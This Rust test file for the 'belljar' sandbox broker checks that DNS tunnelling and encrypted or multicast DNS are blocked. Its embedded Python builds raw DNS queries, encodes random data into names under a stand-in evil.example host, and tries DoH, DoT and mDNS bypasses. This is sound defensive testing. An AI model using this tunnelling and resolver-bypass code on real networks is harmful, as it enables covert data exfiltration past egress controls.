//! Data exfiltration through DNS queries, and resolvers that bypass the broker.

use belljar_testkit::{A, AAAA, NameServer};
use serde_json::json;

use super::*;

/// Python functions that send raw DNS queries, as a DNS tunnel does.
const DNS_QUERIES: &str = r#"
import random

KINDS = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65, "ANY": 255}

def query(name, kind):
    labels = b"".join(bytes([len(it)]) + it.encode() for it in name.split("."))
    return struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", KINDS[kind], 1)

def summary(answer):
    """Returns the response code and the number of answers."""
    return None if answer is None else [answer[3] & 15, struct.unpack(">H", answer[6:8])[0]]

def by_udp(server, name, kind):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(5)
        made.sendto(query(name, kind), (server, 53))
        try:
            return summary(made.recv(4096))
        except TimeoutError:
            return None

def by_tcp(server, name, kind):
    sent = query(name, kind)
    with tcp(server, 53) as made:
        made.sendall(struct.pack(">H", len(sent)) + sent)
        return summary(made.recv(4096)[2:])
"#;

#[test]
fn a16_broker_forwards_no_dns_query_of_a_box_to_a_name_server() {
    let server = NameServer::start(|_, _| vec!["2d00::1".parse().unwrap()]);
    let lab = lab();
    lab.configure(&format!(
        "[dns]\nservers = [\"{}\"]\n[template.default]\nnet = \"restricted\"\nallow = [\"api.example.com\"]\n",
        server.address()
    ));
    let script = format!(
        r#"{DNS_QUERIES}
data = "".join(random.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(50))
tunnel = f"{{data}}.{{data[:40]}}.evil.example"
print_json({{
    "allowed": [by_udp(s, "api.example.com", k) for s in ("192.0.2.53", "8.8.8.8") for k in ("A", "AAAA")],
    "allowed, by tcp": by_tcp("1.1.1.1", "api.example.com", "A"),
    "other kinds": [by_udp("192.0.2.53", "api.example.com", k) for k in ("TXT", "NULL", "MX", "CNAME", "SRV", "HTTPS", "NS", "ANY")],
    "tunnel": [by_udp(s, tunnel, k) for s in ("192.0.2.53", "8.8.8.8") for k in KINDS],
    "tunnel, by tcp": [by_tcp("8.8.8.8", tunnel, k) for k in ("A", "TXT", "NULL")],
    "below the allowed": by_udp("8.8.8.8", f"{{data}}.api.example.com", "A"),
    "name": tunnel,
}})
"#
    );
    let results = run_script(&lab, &script);
    assert_eq!(results["allowed"], json!([[0, 1], [0, 1], [0, 1], [0, 1]]), "{results}");
    assert_eq!(results["allowed, by tcp"], json!([0, 1]));
    let other = results["other kinds"].as_array().unwrap();
    assert!(other.iter().all(|it| it[1] == 0), "queries of other types get no answer: {results}");
    let tunnel = results["tunnel"].as_array().unwrap();
    assert!(tunnel.len() == 20 && tunnel.iter().all(|it| *it == json!([3, 0])), "{results}");
    assert_eq!(results["tunnel, by tcp"], json!([[3, 0], [3, 0], [3, 0]]));
    assert_eq!(results["below the allowed"], json!([3, 0]));
    assert_eq!(
        server.queries(),
        [],
        "an allowed name is resolved only when the box connects to it"
    );
    let name = results["name"].as_str().unwrap();
    let names = ledger_events(&lab, "dns.decided");
    let is_denied = |it: &&Value| it["name"] == name && it["verdict"] == "deny";
    assert_eq!(
        names.iter().filter(is_denied).count(),
        1,
        "repeated queries are recorded once: {names:#?}"
    );
    // Control: the broker resolves names with that name server, which records the queries.
    let script = "print_json(fetch('https://api.example.com/')['belljar'])";
    assert_eq!(parse_output(&python_in_box(&lab, script).run()), "upstream");
    let mut queries = server.queries();
    queries.sort();
    assert_eq!(queries, [A, AAAA].map(|kind| ("api.example.com".to_owned(), kind)));
}

#[test]
fn a17_encrypted_and_multicast_dns_are_refused_in_full_network_mode() {
    let server = NameServer::start(|_, _| vec!["2d00::1".parse().unwrap()]);
    let lab = lab();
    lab.configure(&format!("[dns]\nservers = [\"{}\"]\n", server.address()));
    lab.write("kit.py", KIT);
    let script = r#"
def dot(host):
    """Sends a DNS query over TLS and tells whether a DNS response came back."""
    sent = query("tunnel.example", "A")
    try:
        received = exchange(tls(host, dial=host, port=853, verify=False), struct.pack(">H", len(sent)) + sent)
        return "an answer" if received[2:4].encode("latin-1") == sent[:2] else "none"
    except OSError:
        return "none"

def datagram(to):
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.settimeout(0.5)
    try:
        made.connect(to)
        made.send(b"\0" * 32)
        return "answered" if made.recv(512) else ""
    except TimeoutError:
        return "silence"
    except OSError as error:
        return f"errno {error.errno}"

urls = ["https://public.example.net/", "https://dns.google/dns-query?dns=AAAA", "https://cloudflare-dns.com/dns-query?dns=AAAA",
        "https://1.1.1.1/dns-query?dns=AAAA", "https://8.8.8.8/dns-query?dns=AAAA", "https://public.example.net:853/"]
print_json({
    "https": in_parallel(lambda url: fetch(url, verify=False).get("belljar"), urls),
    "tls": in_parallel(dot, ["1.1.1.1", "9.9.9.9"]),
    "datagrams": in_parallel(datagram, [("224.0.0.251", 5353), ("224.0.0.252", 5355), ("8.8.8.8", 443), ("8.8.8.8", 853)]),
})
"#;
    let run = lab.belljar(["run", "--net", "full", "--", "/usr/bin/python3", "-c"]);
    let ended = run.arg(format!("from kit import *\n{DNS_QUERIES}\n{script}")).run();
    let results = parse_output(&ended);
    assert_eq!(results["https"][0], "upstream", "the broker connects to a public name: {results}");
    assert_eq!(results["tls"], json!(["none", "none"]), "{results}");
    let https = results["https"].as_array().unwrap();
    assert!(https.iter().skip(1).all(|it| *it != "upstream"), "{results}");
    let datagrams = results["datagrams"].as_array().unwrap();
    assert!(datagrams.iter().all(|it| it != "answered"), "{results}");
    for host in ["dns.google", "cloudflare-dns.com"] {
        let names = ledger_events(&lab, "dns.decided");
        let is_refused = |it: &Value| {
            it["name"] == host && it["reason"].as_str().unwrap().starts_with("hidden-dns:")
        };
        assert!(names.iter().any(is_refused), "{host}: {names:#?}");
    }
    for host in ["1.1.1.1", "8.8.8.8", "public.example.net"] {
        assert_denied(&lab, host, "hidden-dns");
    }
    assert_denied(&lab, "9.9.9.9", "malformed");
    let queries = server.queries();
    assert!(queries.iter().all(|(name, _)| name == "public.example.net"), "{queries:?}");
}
